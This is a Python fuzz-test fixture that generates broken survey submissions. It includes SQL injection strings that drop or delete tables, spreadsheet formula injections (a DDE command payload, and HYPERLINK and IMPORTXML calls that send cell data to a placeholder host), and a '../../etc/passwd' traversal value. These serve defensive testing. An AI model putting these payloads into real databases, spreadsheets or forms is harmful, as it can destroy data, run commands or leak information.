"""Malformed submissions for the fuzz test: valid synthetic answers, each broken one way."""

from __future__ import annotations

import random

from suara.forms import Form
from suara.synth import generate

# Strings that have broken other pipelines: SQL, spreadsheet formulas, control characters.
SQL = ["'); DROP TABLE analytics.ilo_rights_baseline; --", "1 OR 1=1", "\"; DELETE FROM restricted.manifest; --",
       "Robert'); DROP TABLE students;--", "' UNION SELECT * FROM restricted.quarantine --"]
FORMULA = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik")', "+SUM(1,2)", "-2+3", "@cmd",
           "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")"]
CONTROL = ["\x00nul", "bell\x07", "\x1b[2Jclear", "rtl\u202eexe.txt", "line\r\nbreak\ttab", "\ufeffbom",
           "zero\u200bwidth \U0001f9f5", "\x7f\x85\u2028\u2029"]
WRONG_TYPES = [123, 4.5, True, None, ["a", "b"], {"nested": 1}, -1e308, 2**70]
KINDS = ("wrong_type", "missing_keys", "unknown_keys", "huge_string", "control", "sql", "formula",
         "wrong_version", "bad_choice", "bad_envelope")


def malformed(form: Form, n: int, seed: int = 5) -> list[tuple[str, dict]]:
    """``n`` (kind, submission) pairs, every kind about equally often."""
    rng = random.Random(seed)
    base = generate(form, min(n, 300), seed=seed)
    out = []
    for k in range(n):
        sub = {key: value for key, value in base[k % len(base)].items()
               if key not in ("_id", "_uuid", "meta/instanceID", "meta/rootUuid")}
        kind = KINDS[k % len(KINDS)]
        out.append((kind, _break(kind, sub, rng)))
    return out


def _answers(sub: dict) -> list[str]:
    return [key for key in sub if not key.startswith(("_", "formhub/", "meta/")) and key != "__version__"]


def _break(kind: str, sub: dict, rng: random.Random) -> dict:
    keys = _answers(sub)
    key = rng.choice(keys) if keys else "grp_x/field"
    if kind == "wrong_type":
        sub[key] = rng.choice(WRONG_TYPES)
    elif kind == "missing_keys":
        for gone in rng.sample(keys, len(keys) // 2):
            del sub[gone]
    elif kind == "unknown_keys":
        sub[f"grp_zz/unknown_{rng.randrange(1000)}"] = "surprise"
        sub["no_group_field"] = rng.choice(WRONG_TYPES)
    elif kind == "huge_string":
        sub[key] = "A" * rng.choice((5_000, 50_000, 250_000))
    elif kind == "control":
        sub[key] = rng.choice(CONTROL)
    elif kind == "sql":
        sub[key] = rng.choice(SQL)
    elif kind == "formula":
        sub[key] = rng.choice(FORMULA)
    elif kind == "wrong_version":
        sub["__version__"] = rng.choice(("vBOGUS0000000000000000", "", "1", "../../etc/passwd"))
    elif kind == "bad_choice":
        sub[key] = "not_a_choice " + rng.choice(SQL)
    else:  # the envelope: what the server adds, in shapes it should not have
        sub["_submission_time"] = rng.choice(("not a time", "9999-99-99T99:99:99", 12345))
        sub["_validation_status"] = rng.choice(("approved", ["x"], {"uid": 5}))
        sub["_geolocation"] = "somewhere"
        sub["_submitted_by"] = rng.choice(CONTROL)
    return sub
